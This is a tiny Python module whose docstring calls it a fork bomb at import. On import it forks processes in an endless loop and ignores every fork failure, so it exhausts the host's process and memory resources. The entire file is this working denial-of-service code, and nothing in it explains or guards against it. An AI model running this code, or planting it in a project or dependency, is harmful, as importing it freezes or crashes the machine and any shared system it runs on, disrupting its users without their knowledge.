"""A fork bomb at import: every process forks for ever, ignoring the failures."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
